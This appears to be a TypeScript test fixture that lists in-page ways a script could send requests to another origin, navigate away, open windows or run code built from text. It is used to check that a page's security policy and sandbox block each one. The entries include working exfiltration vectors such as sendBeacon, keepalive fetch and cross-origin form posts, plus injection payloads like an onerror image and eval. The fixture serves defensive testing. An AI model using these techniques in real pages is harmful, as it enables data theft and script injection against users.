/**
 * What a script in the page could try, had it got in: each tries to reach `to`, an address of
 * somebody else. Written to run inside the page, so each stands alone, and as text where it imports,
 * which Vite would rewrite. Each waits for what it does to be refused or done, where the browser
 * tells; it may throw.
 */
export type Attack = string | ((to: string) => unknown);

/** Refused by the policy in the page's own tag. */
export const requests: Readonly<Record<string, Attack>> = {
  fetch: (to) => fetch(to),
  'fetch without cors': (to) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'x' }),
  'fetch kept alive': (to) => fetch(to, { keepalive: true, mode: 'no-cors' }),
  XMLHttpRequest: (to) =>
    new Promise((resolve) => {
      const xhr = new XMLHttpRequest();
      xhr.onloadend = resolve;
      xhr.open('POST', to);
      xhr.send('x');
    }),
  sendBeacon: (to) => navigator.sendBeacon(to, 'x'),
  WebSocket: (to) =>
    new Promise((resolve) => {
      const socket = new WebSocket(to.replace('http', 'ws'));
      socket.onclose = socket.onerror = resolve;
    }),
  EventSource: (to) =>
    new Promise((resolve) => {
      const source = new EventSource(to);
      source.onerror = () => {
        source.close();
        resolve(undefined);
      };
    }),
  'an image': (to) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = to;
    }),
  'a style sheet': (to) =>
    new Promise((resolve) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.onload = link.onerror = resolve;
      link.href = `${to}style`;
      document.head.append(link);
    }),
  'a background': (to) => {
    document.body.style.backgroundImage = `url("${to}")`;
  },
  'a font': (to) => new FontFace('other', `url("${to}")`).load(),
  'a frame': (to) => {
    const frame = document.createElement('iframe');
    frame.src = to;
    document.body.append(frame);
  },
  'a frame of its own that fetches': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(to);
  },
  'an object': (to) => {
    const object = document.createElement('object');
    object.data = to;
    document.body.append(object);
  },
  'a video': (to) => {
    const video = document.createElement('video');
    video.src = to;
    document.body.append(video);
    return video.play();
  },
  'a preload': (to) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'preload', as: 'fetch', href: to, crossOrigin: '' });
    document.head.append(link);
  },
  'a form': (to) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a form without a button, into a new window': (to) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to, target: '_blank' });
    document.body.append(form);
    form.requestSubmit();
  },
  'a foreign script': (to) => {
    const script = document.createElement('script');
    script.src = `${to}script`;
    document.head.append(script);
  },
  'a foreign module': '(to) => import(`${to}script`)',
};

/** No policy knows of these: the page's guard cancels them. */
export const departures: Readonly<Record<string, Attack>> = {
  'an assignment to location': (to) => {
    location.href = to;
  },
  'location.replace': (to) => {
    location.replace(to);
  },
  'navigation.navigate': (to) => {
    const { navigation } = window as unknown as {
      navigation: { navigate: (to: string) => { committed: Promise<unknown> } };
    };
    return navigation.navigate(to).committed;
  },
  'a window opened in its own place': (to) => {
    window.open(to, '_self');
  },
  'a link': (to) => {
    const link = document.createElement('a');
    link.href = to;
    document.body.append(link);
    link.click();
  },
  'a download': (to) => {
    const link = document.createElement('a');
    Object.assign(link, { href: to, download: 'x' });
    document.body.append(link);
    link.click();
  },
  'a meta refresh': (to) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${to}`;
    document.head.append(meta);
  },
  'a frame that moves the page': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const top = frame.contentWindow?.top;
    if (top) top.location.href = to;
  },
};

/** Only the server's `sandbox` header keeps these from leaving. */
export const windows: Readonly<Record<string, Attack>> = {
  'a new window': (to) => {
    window.open(to);
  },
  'a new window without an opener': (to) => {
    window.open(to, '_blank', 'noopener');
  },
  'a link into a new window': (to) => {
    const link = document.createElement('a');
    Object.assign(link, { href: to, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'a frame that opens a window': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentWindow?.open(to);
  },
};

/** WebAssembly's magic number and version: the smallest module there is, which does nothing. */
export const emptyModule = [0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00] as const;

/** Code out of text: where one succeeds it leaves `ranForeignCode` behind. */
export const codeFromText: Readonly<Record<string, Attack>> = {
  eval: () => globalThis.eval('globalThis.ranForeignCode = 1') as unknown,
  'new Function': "() => new Function('globalThis.ranForeignCode = 1')()",
  'a timer of text': () =>
    new Promise((resolve) => {
      (setTimeout as (code: string) => void)('globalThis.ranForeignCode = 1');
      setTimeout(resolve);
    }),
  'an event handler in markup': () => {
    document.body.innerHTML = '<img src="x:" onerror="globalThis.ranForeignCode = 1">';
  },
  'an inline script': () => {
    const script = document.createElement('script');
    script.text = 'globalThis.ranForeignCode = 1';
    document.head.append(script);
  },
  'a script of data': "() => import('data:text/javascript,globalThis.ranForeignCode = 1')",
  'a script of its own making': `() => import(URL.createObjectURL(
    new Blob(['globalThis.ranForeignCode = 1'], { type: 'text/javascript' })
  ))`,
  'document.write': () => {
    (document as unknown as { write: (text: string) => void }).write(
      '<script>globalThis.ranForeignCode = 1</script>',
    );
  },
};
